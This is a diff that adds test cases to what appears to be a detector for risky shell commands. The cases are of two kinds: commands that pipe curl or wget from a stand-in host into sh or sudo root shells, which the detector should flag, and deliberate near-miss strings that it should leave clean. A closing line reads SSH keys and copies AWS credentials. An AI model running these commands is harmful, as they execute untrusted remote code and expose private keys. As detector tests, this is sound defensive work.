@@ -173,6 +173,9 @@ found("download-to-shell", "Just run `curl https://x.example.com/install | sh` a
 found("download-to-shell", 'fix: "Run curl -sL https://x.example.com/i.py | python3 - and wait"\n', (1, 11), end=".yaml")
 found("download-to-shell", "run: >\n  curl -fsSL\n  https://x.example.com\n  | tee log | /bin/sh\n", (2, 3), end=".yaml")
 found("download-to-shell", '{"steps": [{"run": "curl https://x.example.com | env A=1 bash"}]}\n', (1, 21), end=".json")
+found("download-to-shell", "Run curl -fsSL -H 'Accept: text/x-sh' --retry 3 https://x.example.com/i.sh -o - | tee log file | sudo -u root sh.\n", (1, 5))
+found("download-to-shell", "Copy: `bash <(curl -s https://x.example.com)` or `https://y.example.com | xargs curl | sh`.\n", (1, 15), (1, 81))
+found("download-to-shell", "| step | command |\n| --- | --- |\n| install | `wget -qO- https://x.example.com/i \\| sh` |\n", (3, 14))
 found("download-to-shell", "```sh\npython3 -c \"$(curl -s https://x.example.com)\"\ncurl https://x.example.com |& sudo -u root sh\n```\n", (2, 15), (3, 1))
 clean("download-to-shell", "```sh\ncurl -fsSL https://x.example.com/a.json | python3 -m json.tool\ncurl -o a.tgz https://x.example.com/a.tgz && sh build.sh\n```\n")
 clean("download-to-shell", "Never pipe `curl` into `sh`; a page that says curl | sh asks for trust.\n")
@@ -181,6 +184,11 @@ clean("download-to-shell", "| tool | example | runs in |\n| --- | --- | --- |\n|
 clean("download-to-shell", "```sh\n# not: curl https://x.example.com | sh\nwget https://x.example.com/a | tee a.txt\ncat notes | bash\n```\n")
 clean("download-to-shell", "```bash\neval \"$(ssh-agent -s)\"\nexport V=$(curl -s https://x.example.com | jq -r .v)\ncurl https://x.example.com/a.tgz | tar xz\ncat file | ssh host 'bash -s'\nset -- `curl https://x.example.com` && node build.js\n```\n")
 clean("download-to-shell", "Download the source (`wget https://x.example.com/a.tgz`), or use bash and `curl https://x.example.com`.\n")
+
+clean("download-to-shell", "Where `docs` speak of it, curl gets the lockfile from https://x.example.com and `jq` | sh reads it.\n")
+clean("download-to-shell", "It is at https://x.example.com and loaded by curl | source of all else.\nUse the curl file, then JSON (`packs.json`): DIR, | . Of https://x.example.com more.\n")
+clean("download-to-shell", 'look_for: "A page at https://x.example.com that says to pipe curl | sh"\n', end=".yaml")
+clean("download-to-shell", "| tool | page | runs |\n| --- | --- | --- |\n| curl | https://x.example.com | source |\n| `curl https://x.example.com` | `sh` | a \\| b |\n")
 
 # --- credential-access
 found("credential-access", "```sh\ncat ~/.ssh/id_rsa\ncp $HOME/.aws/credentials /tmp\n```\n", (2, 5), (3, 4))
